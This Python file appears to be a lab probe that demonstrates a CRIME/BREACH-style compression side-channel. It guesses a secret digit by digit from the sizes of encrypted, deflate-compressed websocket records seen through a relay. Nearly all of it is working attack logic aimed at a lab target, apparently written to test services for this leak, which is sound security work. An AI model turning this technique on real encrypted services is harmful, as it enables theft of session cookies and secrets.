"""A secret guessed through compression: encrypted, yet its size tells whether it repeats what the attacker wrote.

The one thing to notice: a right guess repeats one character more of the secret than a wrong one, so it takes fewer
bytes. That makes sixteen guesses for each digit, where guessing the whole would take as many as there are secrets. It
is how CRIME and BREACH took cookies out of https.
"""

import secrets
from collections.abc import Sequence
from contextlib import aclosing

from yarl import URL

from clients.chunk import StreamError
from clients.connection import connecting
from clients.websocket import websocket
from lab.relay import relaying
from lab.security.leaks.records import data_down
from lab.security.probe import Outcome
from lab.security.scene import Scene, Target

HEX = "0123456789abcdef"
DIGITS = 8
NAME = "confirmation-code-is:"
"""What stands before the secret, which the attacker knows. With it, all repeats are of 19 to 34 characters, and within
these lengths a longer one takes no more bits to write down (RFC 1951 §3.2.5): a right guess saves a whole byte."""
ORDER: dict[str, str | float] = {"unit": "word", "first_token_ms": 0, "token_ms": 1500}
"""The second token comes much later. It is there only to keep the end of the answer out of the frame of the first."""
ATTEMPTS = 3
"""How often a guess is tried whose frame came along with another one."""


async def attack(scene: Scene) -> Outcome:
    """Guess digit by digit; of sixteen guesses take the one whose frame was shortest."""
    secret, known, measured = secrets.token_hex(DIGITS // 2), "", []
    with connecting(scene.target.subject.cafile):
        for _ in range(DIGITS):
            sizes = [await size(scene.target, victims_text(secret, known + digit)) for digit in HEX]
            measured.append(sizes)
            known += shortest(sizes)
    right = sum(digit == guess for digit, guess in zip(secret, known, strict=True))
    guesses = DIGITS * len(HEX)
    says = (
        f"Recovered {right} of {DIGITS} digits of a secret with {guesses} guesses, from the sizes of encrypted records."
    )
    figures = {"guesses": guesses, "digits_recovered": right, "digits": DIGITS}
    return Outcome(known == secret, says, figures, {"secret": secret, "guessed": known, "record_bytes": measured})


def victims_text(secret: str, guess: str) -> str:
    """An answer that holds a secret and, as answers do, repeats what was asked. All that is its first token."""
    return f"{NAME}{secret};{NAME}{guess}~ ."


def shortest(sizes: Sequence[int]) -> str:
    """The digit of the least size; where several are equal, one of them at random."""
    return secrets.choice([digit for digit, size in zip(HEX, sizes, strict=True) if size == min(sizes)])


async def size(target: Target, text: str) -> int:
    """How large the record is in which the victim gets the text's first token, on a connection of its own.

    Raises StreamError when that token never comes alone.
    """
    for _ in range(ATTEMPTS):
        async with relaying(target.port) as relay:
            url = URL(relay.through(target.url)) / "websocket" % {"text": text, **ORDER}
            async with aclosing(websocket(str(url), deflate=True)) as chunks:
                chunk = await anext(chunks)
                seen = data_down(relay.pieces)
            if chunk.cursor == 1:
                return seen[-1].size
    raise StreamError("The first token never came alone.")
